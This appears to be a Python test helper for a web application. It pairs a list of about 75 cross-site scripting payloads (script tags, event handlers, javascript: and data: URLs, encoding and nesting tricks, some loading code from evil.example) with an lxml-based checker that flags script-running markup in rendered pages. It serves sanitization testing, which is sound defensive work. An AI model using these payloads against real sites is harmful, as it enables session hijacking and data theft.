"""Texts that try to run a script, each in its own way, and what tells that one got through."""

from typing import Any
from urllib.parse import unquote

from lxml import etree, html

RUN = "window.__xss=1"
# Ways to get a script into markup; {run} is the script.
_MARKUP = """
<script>{run}</script>
<ScRiPt >{run}</sCrIpT>
<script src=//evil.example/x.js></script>
<script/x>{run}</script>
<scr<script>ipt>{run}</scr</script>ipt>
<<script>{run}//<</script>
</title><script>{run}</script>
</script><script>{run}</script>
</textarea><script>{run}</script>
</style><script>{run}</script>
--><script>{run}</script>
]]><script>{run}</script>
<![CDATA[<script>{run}</script>]]>
<!--><img src=x onerror={run}>-->
<img src=x onerror={run}>
<img src=x oneonerrorrror={run}>
<img/src=x/onerror={run}>
<img src="x"onerror="{run}">
<IMG SRC=javascript:{run}>
<img src=x onerror&#61;"{run}">
<image src=x onerror={run}>
<svg onload={run}>
<svg/onload={run}>
<svg><script>{run}</script></svg>
<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror={run}>">
<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>
<math><mi xlink:href="javascript:{run}">x</mi></math>
<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>
<template><img src=x onerror={run}></template>
<body onload={run}>
<body onpageshow={run}>
<iframe src="javascript:{run}"></iframe>
<iframe srcdoc="<script>{run}</script>"></iframe>
<iframe onload={run}></iframe>
<object data="javascript:{run}"></object>
<object type="text/html" data="data:text/html,<script>{run}</script>"></object>
<embed src="javascript:{run}">
<embed embedtype="x" src="data:text/html,<script>{run}</script>" onload={run}>
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv=refresh content="0;url=javascript:{run}">
<style>@import "https://evil.example/x.css";</style>
<p style="background:url(javascript:{run})">x</p>
<p style="behavior:url(x.htc)">x</p>
<a href="javascript:{run}">x</a>
<a href="JaVaScRiPt:{run}">x</a>
<a href="java&#10;script:{run}">x</a>
<a href="java&Tab;script:{run}">x</a>
<a href=" &#14; javascript:{run}">x</a>
<a href="&#106;avascript:{run}">x</a>
<a href="vbscript:{run}">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a linktype="external" href="javascript:{run}">x</a>
<a linktype="page" id="1' onclick='{run}">x</a>
<a href="https://example.org/" onmouseover={run}>x</a>
<a href="https://example.org/" target=_blank autofocus onfocus={run}>x</a>
<b onclick="{run}">x</b>
<p lang='en" onclick="{run}'>x</p>
<details open ontoggle={run}>x</details>
<input autofocus onfocus={run}>
<form action="javascript:{run}"><button>x</button></form>
<button formaction="javascript:{run}">x</button>
<video><source onerror={run}></video>
<audio src=x onerror={run}></audio>
<marquee onstart={run}>x</marquee>
<xss id=x tabindex=1 onfocus={run}></xss>
" autofocus onfocus={run} x="
' onmouseover='{run}
javascript:{run}
{{{{ constructor.constructor('{run}')() }}}}
{{% debug %}}
&lt;script&gt;{run}&lt;/script&gt;
"""
PAYLOADS = [line.format(run=RUN) for line in _MARKUP.strip().splitlines()]

_ADDRESSES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset"}
_OURS = ("/static/", "http://testserver/static/", "/admin/jsi18n/")


def dangers(content: bytes, *, admin: bool = False) -> list[str]:
    """What would run in a page, a line each; the admin has scripts and styles of its own."""
    document = html.document_fromstring(content)
    return [
        f"{element.tag} {dict(element.attrib)}"
        for element in document.iter(etree.Element)
        if _is_dangerous(element, admin=admin)
    ]


def _is_dangerous(element: Any, *, admin: bool) -> bool:
    for name, value in element.attrib.items():
        plain = "".join(unquote(value).lower().split())
        if name.startswith("on") and (RUN in value or not admin):
            return True
        if name in _ADDRESSES and plain.startswith(("javascript:", "vbscript:", "data:text")):
            return True
        if RUN in value and name in ("srcdoc", "style"):
            return True
        if "evil.example" in value and name in _ADDRESSES:
            return True
    if element.tag == "script":
        return _is_dangerous_script(element, admin=admin)
    return not admin and element.tag in (
        "iframe",
        "object",
        "embed",
        "base",
        "svg",
        "math",
        "style",
    )


def _is_dangerous_script(element: Any, *, admin: bool) -> bool:
    if element.get("src"):
        return not element.get("src").startswith(_OURS)
    if element.get("type") in ("application/ld+json", "application/json"):
        return False
    text = (element.text or "").strip()
    return not admin or text.startswith(RUN)
